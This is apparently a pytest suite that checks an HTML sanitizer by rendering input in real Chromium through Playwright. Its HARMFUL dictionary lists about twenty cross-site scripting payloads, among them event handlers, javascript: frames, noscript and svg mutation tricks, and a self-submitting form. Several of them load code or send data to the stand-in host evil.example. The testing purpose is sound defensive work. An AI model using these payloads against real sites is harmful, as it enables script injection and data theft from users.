"""Cleaned HTML in a real Chromium, without a content security policy: it runs nothing and asks for nothing."""

from __future__ import annotations

from typing import Final
from urllib.parse import urlsplit

import pytest
from playwright.sync_api import Browser

from browser.watched import observed_effects
from content.cleaning.trees import FRAME, cleaned
from scoring import hostile

pytestmark = pytest.mark.slow

# Each runs a script or sends something when it is not cleaned.
HARMFUL: Final = {
    "script": "<script>window.x = 1</script>",
    "script from elsewhere": "<script src=https://evil.example/x.js></script>",
    "handler": "<img src=x onerror='window.x = 1'>",
    "drawing": "<svg><animate onbegin='window.x = 1' attributeName=x dur=1s></svg>",
    "handler without a wait": "<details open ontoggle='window.x = 1'><summary>a</summary></details>",
    "handler of the mouse": "<p onmousemove='window.x = 1' style='height: 90em'>a</p>",
    "handler of the keyboard": "<a href=# onfocus='window.x = 1'>a</a>",
    "frame with its own page": "<iframe srcdoc='<script>parent.x = 1</script>'></iframe>",
    "frame with an address of code": "<iframe src='javascript:parent.x = 1'></iframe>",
    "frame from anywhere": "<iframe src='https://evil.example/'></iframe>",
    "object": "<object data='https://evil.example/x.html'></object>",
    "plug-in": "<embed src='https://evil.example/x.html'>",
    "going elsewhere": "<meta http-equiv=refresh content='0; url=https://evil.example/'>",
    "style sheet": "<link rel=stylesheet href='https://evil.example/x.css'>",
    "style sheet inside": "<style>@import 'https://evil.example/x.css';</style>",
    "asking beforehand": "<link rel=prefetch href='https://evil.example/x'>",
    "font": "<style>@font-face { font-family: x; src: url(//evil.example/x) } p { font-family: x }</style><p>a</p>",
    "form that sends itself": "<form action='https://evil.example/'><input autofocus onfocus='form.submit()'></form>",
    "style sheet of a drawing": "<svg><style><img src=x onerror='window.x = 1'></style></svg>",
    "end inside a value": "<noscript><p title='</noscript><img src=x onerror=window.x=1>'></noscript>",
}


def known_player(url: str) -> bool:
    return FRAME.match(url) is not None and urlsplit(url).scheme == "https"


@pytest.mark.parametrize("kind", HARMFUL)
def test_harmful_html_is_noticed(browser: Browser, kind: str) -> None:
    assert observed_effects(browser, HARMFUL[kind], is_harmful=True, frames=known_player) != []


def test_harmful_html_inserted_by_a_script_is_noticed(browser: Browser) -> None:
    assert observed_effects(browser, HARMFUL["handler"], by_script=True, is_harmful=True, frames=known_player) != []


def test_images_and_known_players_are_allowed(browser: Browser) -> None:
    html = cleaned("<img src=a.png><iframe src='https://www.youtube.com/embed/x'></iframe>")

    assert "<img" in html
    assert "<iframe" in html
    assert observed_effects(browser, html, frames=known_player) == []


@pytest.mark.parametrize("by_script", [False, True], ids=["with the page", "by innerHTML"])
def test_cleaned_html_is_harmless(browser: Browser, by_script: bool) -> None:
    html = "<hr>".join(cleaned(source) for source in HARMFUL.values())

    assert observed_effects(browser, html, by_script=by_script, frames=known_player) == []


@pytest.mark.skipif(not hostile.PAYLOADS.exists(), reason="the corpus hostile is not on this machine")
@pytest.mark.parametrize("by_script", [False, True], ids=["with the page", "by innerHTML"])
def test_published_attacks_are_harmless_when_cleaned(browser: Browser, by_script: bool) -> None:
    html = "<hr>".join(cleaned(payload) for payload in hostile.payloads())

    assert observed_effects(browser, html, by_script=by_script, frames=known_player) == []


@pytest.mark.skipif(not hostile.PAYLOADS.exists(), reason="the corpus hostile is not on this machine")
def test_published_attacks_are_noticed_when_not_cleaned(browser: Browser) -> None:
    assert observed_effects(browser, "<hr>".join(hostile.payloads()), is_harmful=True, frames=known_player) != []
